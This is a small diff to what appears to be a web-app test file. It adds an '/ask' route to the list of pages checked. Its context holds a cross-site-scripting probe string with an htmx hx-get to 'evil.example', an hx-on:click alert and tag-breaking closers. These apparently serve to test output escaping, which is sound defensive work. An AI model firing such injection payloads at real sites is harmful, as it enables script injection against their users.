@@ -19,7 +19,7 @@ SHAPES = (
     "' hx-get='https://evil.example' hx-on:click='alert(1)' </textarea></title></script> "
 )
 PARTS = (
-    *("", "/questions", "/timeline", "/names", "/accounts", "/quotes", "/lineage", "/coverage"),
+    *("", "/questions", "/ask", "/timeline", "/names", "/accounts", "/quotes", "/lineage", "/coverage"),
     *("/reports", "/history", "/corrections"),
 )
 
